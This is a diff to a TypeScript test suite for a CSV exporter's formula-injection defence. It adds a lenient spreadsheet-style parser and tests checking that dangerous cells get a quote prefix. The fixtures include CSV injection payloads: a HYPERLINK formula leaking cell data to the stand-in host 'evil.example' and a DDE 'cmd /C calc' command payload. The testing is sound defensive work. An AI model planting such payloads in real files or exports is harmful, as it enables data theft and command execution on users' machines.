@@ -1,12 +1,68 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { writeCsv } from '../../../main/export/csv.js';
-import { neutralizeFormula } from '../../../main/export/cell-text.js';
+import { neutralizeFormula, writeCsv } from '../../../main/export/csv.js';
+import type { CrossTable } from '../../../shared/tables.js';
 import { countsTable, expectedCounts, expectedQuotes, sampleTable } from './sample-table.js';
 
 function readCsv(buffer: Buffer): string[][] {
   return parse(buffer.toString('utf8'), { bom: true, record_delimiter: '\r\n' }) as string[][];
 }
+
+/**
+ * Fields as a spreadsheet cuts a CSV with another separator than the writer's: leniently, as
+ * LibreOffice does. A quote opens a quoted field only at the start of a field; after its closing
+ * quote the text runs on to the next separator; line breaks end a record outside quotes.
+ */
+function readLeniently(buffer: Buffer, separator: string): string[] {
+  const text = buffer.toString('utf8').replace(/^\uFEFF/, '');
+  const fields: string[] = [];
+  let field = '';
+  let quoted = false;
+  let atStart = true;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === separator || ch === '\r' || ch === '\n') {
+      if (ch === '\r' && text[i + 1] === '\n') i++;
+      fields.push(field);
+      field = '';
+      atStart = true;
+      continue;
+    } else if (ch === '"' && atStart) quoted = true;
+    else field += ch;
+    atStart = false;
+  }
+  return fields;
+}
+
+/** Text that starts a formula only once a reader splits it at some separator or line break. */
+const attacks = [
+  ';=1+1',
+  ',=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+  '\t=1+1',
+  'Мы решили\n=1+1',
+  'да\r\n-2+3',
+  'a|@SUM(A1)',
+  'итого =1+1',
+  'x;"=1+1"',
+];
+
+/** A table whose row labels, column label and quotes all carry the attacks. */
+const attackTable: CrossTable = {
+  ...sampleTable,
+  tagCases: false,
+  rowHeader: ';=cmd|" /C calc"!A0',
+  columns: [{ key: 'quote', label: '|=1+1' }],
+  rows: attacks.map((label, i) => ({ key: `case:${i}`, label, role: 'data' as const })),
+  cells: attacks.map((quote, i) => [
+    { row: `case:${i}`, column: 'quote', count: 1, segments: [{ id: i, caseName: 'К', documentId: 1, start: 0, end: 1, quote }] },
+  ]),
+};
 
 describe('CSV export', () => {
   it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
@@ -40,5 +96,52 @@ describe('CSV export', () => {
       countsTable.rows[r]!.role === 'heading' ? counts.map(() => '') : counts.map(String),
     );
     expect(records.slice(1).map((record) => record.slice(1))).toEqual(expected);
+  });
+
+  it.each([',', ';', '\t', '|', ' '])('gives no field starting a formula when read with %j as the separator', (separator) => {
+    for (const table of [attackTable, sampleTable]) {
+      const fields = readLeniently(writeCsv(table), separator);
+      expect(fields.length).toBeGreaterThan(table.rows.length);
+      for (const field of fields) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it('keeps a neutralised cell readable: a quote in front of each formula, the text otherwise unchanged', () => {
+    const records = readCsv(writeCsv(attackTable));
+    expect(records[0]).toEqual([";'=cmd|\" /C calc\"!A0", "|'=1+1"]);
+    expect(records.slice(1).map((record) => record[1])).toEqual([
+      ";'=1+1",
+      ",'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+      "'\t'=1+1",
+      "Мы решили\n'=1+1",
+      "да\n'-2+3",
+      "a|'@SUM(A1)",
+      "итого '=1+1",
+      "x;'\"=1+1\"",
+    ]);
+  });
+});
+
+describe('neutralizeFormula', () => {
+  it.each(['=1+1', '+7', '-5', '@SUM(A1)', '\tx', '\rx'])('prefixes %j with a quote', (text) => {
+    expect(neutralizeFormula(text)).toBe(`'${text}`);
+  });
+
+  it.each([
+    [';=1+1', ";'=1+1"],
+    ['\t=1', "'\t'=1"],
+    ['a\n=1', "a\n'=1"],
+    ['a\r\n+1', "a\r\n'+1"],
+    ['a|@x', "a|'@x"],
+    // " =1" was left alone before; a reader splitting at spaces reads it as "=1".
+    [' =1', " '=1"],
+    ['x,"=1"', "x,'\"=1\""],
+    ['=1;=2', "'=1;'=2"],
+  ])('puts a quote in front of a formula after a separator: %j', (text, safe) => {
+    expect(neutralizeFormula(text)).toBe(safe);
+  });
+
+  it.each(['', 'text', '1+1', 'П=1', "'=1", 'e-mail', 'a-b', 'x;y', 'Смех :-)'])('leaves %j alone', (text) => {
+    expect(neutralizeFormula(text)).toBe(text);
   });
 });
